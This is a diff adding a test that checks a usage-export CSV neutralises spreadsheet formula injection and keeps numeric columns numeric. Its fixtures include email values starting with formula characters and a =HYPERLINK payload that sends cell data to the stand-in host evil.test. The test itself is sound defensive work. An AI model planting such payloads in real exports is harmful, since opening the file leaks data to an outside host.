@@ -188,6 +188,58 @@ def test_export_is_for_admins_and_for_everyone_when_people_are_visible_to_everyo
         assert uploads == []
 
 
+HOSTILE_PEOPLE = (
+    ("Eve Formula", "=1+1@acme.test"),
+    ("Pat Plus", "+cmd@acme.test"),
+    ("Mia Minus", "-2+3@acme.test"),
+    ("Ali At", "@sum@acme.test"),
+    ("Tab Tab", "\tx@acme.test"),
+    ("Cara Return", "\ry@acme.test"),
+)
+HOSTILE_MODEL = '=HYPERLINK("http://evil.test/?d="&A1,"Click me")'
+
+
+@pytest.mark.parametrize(
+    ("windsurf_options", "settings_overrides"),
+    [
+        (
+            {"people": HOSTILE_PEOPLE, "model_names": {"Claude Sonnet 4.5": HOSTILE_MODEL}},
+            {"windsurf_credit_price": Decimal("0.04")},
+        )
+    ],
+    ids=["formula-text"],
+)
+def test_export_neutralises_formula_cells_and_keeps_numbers(synced: World) -> None:
+    synced.ask("export 30d windsurf")
+    upload = next(value for value in synced.fake.uploads.values() if value.get("completed"))
+    content = upload["content"].decode()
+    rows = list(csv.DictReader(io.StringIO(content, newline="")))
+    assert rows
+    emails = {row["user_email"] for row in rows}
+    hostile = {email for _, email in HOSTILE_PEOPLE}
+    assert {"'" + email for email in hostile} <= emails  # every one of them spent, and was neutralised
+    assert "'" + HOSTILE_MODEL in {row["model"] for row in rows}
+    for row in rows:
+        for name in ("connection", "vendor", "user_email", "model", "unit"):
+            assert not row[name].startswith(("=", "+", "-", "@", "\t", "\r")), (name, row[name])
+    # Numbers stay numbers: bare (unquoted) cells, exactly the vendor's credits per person.
+    first, last = min(row["utc_day"] for row in rows), max(row["utc_day"] for row in rows)
+    expected = synced.windsurf.dataset.credits_by_user(date.fromisoformat(first), date.fromisoformat(last))
+    got: dict[str, Decimal] = {}
+    for row in rows:
+        got[row["user_email"].removeprefix("'")] = got.get(
+            row["user_email"].removeprefix("'"), Decimal(0)
+        ) + (Decimal(row["amount"]))
+    assert got == expected
+    # Read as a spreadsheet would: a bare cell is a number (the reader makes it a float), a quoted one text.
+    records = list(csv.reader(io.StringIO(content, newline=""), quoting=csv.QUOTE_NONNUMERIC))[1:]
+    for record, row in zip(records, rows, strict=True):
+        utc_day, connection, vendor, email, model, amount, unit, usd, requests = record
+        assert all(isinstance(cell, str) for cell in (utc_day, connection, vendor, email, model, unit))
+        assert all(isinstance(cell, float) for cell in (amount, usd, requests))
+        assert Decimal(row["amount_usd"]) == Decimal(row["amount"]) * Decimal("0.04")
+
+
 def test_share_in_channel_reposts_the_answer_publicly(synced: World) -> None:
     answer = synced.ask("spend 7d cursor")
     posts = synced.click("share_answer", button_value(answer, "share_answer"))
